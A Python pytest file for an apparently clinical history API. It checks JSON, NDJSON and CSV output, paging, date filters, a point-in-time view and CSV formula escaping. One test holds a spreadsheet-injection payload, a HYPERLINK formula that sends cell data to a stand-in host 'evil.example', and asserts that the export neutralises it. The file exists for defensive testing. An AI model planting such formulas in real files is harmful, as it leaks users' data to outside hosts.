"""The history in its three forms, page by page."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pathway.use_cases.read_history import COLUMNS
from pathway.use_cases.spreadsheet import STARTS_A_FORMULA, as_csv
from tests.api.conftest import Service

NOTE = {"kind": "note_added", "occurred_on": "2026-02-01", "text": "seen"}


@pytest.fixture(scope="module")
def episode(service: Service) -> str:
    path = service.open_episode()
    for day in range(1, 7):
        service.record(
            path, NOTE | {"occurred_on": f"2026-02-0{day}", "text": f'note {day}, "quoted"\nand more'}
        )
    return path


def test_without_a_wish_the_history_is_json(service: Service, episode: str) -> None:
    response = service.get(f"{episode}/history", headers={"accept": ""})
    assert response.headers["content-type"] == "application/json"
    assert [row["sequence"] for row in response.json()["entries"]] == list(range(1, 8))
    assert response.json()["next_cursor"] is None
    assert "link" not in response.headers


@pytest.mark.shows("R-043")
def test_the_three_forms_tell_the_same(service: Service, episode: str) -> None:
    rows = service.get(f"{episode}/history").json()["entries"]
    lines = service.get(f"{episode}/history", headers={"accept": "application/x-ndjson"})
    assert lines.headers["content-type"] == "application/x-ndjson"
    assert [json.loads(line) for line in lines.text.splitlines()] == rows
    table = service.get(f"{episode}/history", headers={"accept": "text/csv"})
    assert table.headers["content-type"] == "text/csv; charset=utf-8"
    read = list(csv.DictReader(io.StringIO(table.text, newline="")))
    assert [row["entry"] for row in read] == [row["entry"] for row in rows]
    assert [json.loads(row["event"]) for row in read] == [row["event"] for row in rows]
    assert all(set(row) == set(COLUMNS) for row in rows), "every member of an entry has its column"


@pytest.mark.parametrize(
    ("accept", "media_type"),
    [
        ("*/*", "application/json"),
        ("application/*", "application/json"),
        ("text/html, application/xhtml+xml, */*;q=0.8", "application/json"),
        ("text/csv, application/json", "text/csv; charset=utf-8"),
        ("application/json;q=0.2, text/csv;q=0.9", "text/csv; charset=utf-8"),
        ("Application/X-NDJSON", "application/x-ndjson"),
        ("text/csv;q=0, application/json", "application/json"),
    ],
)
def test_the_form_is_the_one_the_caller_wishes_most(
    service: Service, episode: str, accept: str, media_type: str
) -> None:
    response = service.get(f"{episode}/history", headers={"accept": accept})
    assert response.headers["content-type"] == media_type
    assert response.headers["vary"] == "accept"


@pytest.mark.parametrize(
    "accept", ["application/xml", "text/html", "text/csv;q=0", "text/csv;q=nan", "nonsense", ";q=1"]
)
def test_a_form_that_is_not_offered_is_refused(service: Service, episode: str, accept: str) -> None:
    response = service.get(f"{episode}/history", headers={"accept": accept})
    assert response.status_code == 406
    assert response.json()["type"] == "urn:pathway:problem:not_acceptable"


@pytest.mark.parametrize("accept", ["application/json", "application/x-ndjson", "text/csv"])
def test_the_pages_follow_one_another_by_their_links(service: Service, episode: str, accept: str) -> None:
    address = f"{episode}/history?limit=3&from=2026-01-01"
    seen: list[int] = []
    pages = 0
    while address:
        page = service.get(address, headers={"accept": accept})
        assert page.status_code == 200
        pages += 1
        match accept:
            case "application/json":
                seen += [row["sequence"] for row in page.json()["entries"]]
            case "application/x-ndjson":
                seen += [json.loads(line)["sequence"] for line in page.text.splitlines()]
            case _:
                seen += [int(row["sequence"]) for row in csv.DictReader(io.StringIO(page.text, newline=""))]
        address = page.links["next"]["url"] if "next" in page.links else ""
    assert seen == list(range(1, 8))
    assert pages == 3


def test_the_history_can_be_narrowed_to_clinical_days(service: Service, episode: str) -> None:
    rows = service.get(f"{episode}/history?from=2026-02-02&to=2026-02-04").json()["entries"]
    assert [row["on"] for row in rows] == ["2026-02-02", "2026-02-03", "2026-02-04"]


@pytest.mark.shows("R-042")
def test_the_history_reads_as_it_was_known_at_an_earlier_instant(service: Service) -> None:
    episode = service.open_episode()
    noted = service.record(episode, NOTE).json()["entries"][0]["entry"]
    before = datetime.now(UTC).isoformat().replace("+00:00", "Z")
    retraction = {
        "kind": "event_retracted",
        "occurred_on": "2026-02-02",
        "entry": noted,
        "reason": "wrong child",
    }
    service.record(episode, retraction)
    then = service.get(f"{episode}/history?known_at={before}").json()["entries"]
    now = service.get(f"{episode}/history").json()["entries"]
    assert [row["standing"] for row in then] == ["in_force", "in_force"]
    assert [row["standing"] for row in now] == ["in_force", "retracted", "in_force"]


@pytest.mark.shows("R-043", "T-22")
def test_a_cell_that_a_spreadsheet_would_run_is_kept_from_it(service: Service) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    episode = service.open_episode(subject=hostile[:60])
    table = service.get(f"{episode}/history", headers={"accept": "text/csv"}).text
    (row,) = csv.DictReader(io.StringIO(table, newline=""))
    assert row["actor"] == f"'{hostile[:60]}"


@pytest.mark.shows("T-22")
@given(
    st.lists(
        st.fixed_dictionaries(
            {
                "actor": st.text(),
                "event": st.dictionaries(st.text(), st.text()),
                "sequence": st.integers(-9, 9),
            }
        )
    )
)
def test_whatever_is_in_a_cell_it_begins_no_formula_and_reads_back(rows: list[dict[str, object]]) -> None:
    read = list(
        csv.DictReader(io.StringIO(as_csv(COLUMNS, rows).decode("utf-8", "surrogatepass"), newline=""))
    )
    assert len(read) == len(rows)
    for sent, cells in zip(rows, read, strict=True):
        assert not any(cell.startswith(STARTS_A_FORMULA) for cell in cells.values())
        actor = str(sent["actor"])
        assert cells["actor"] in {actor, f"'{actor}"}
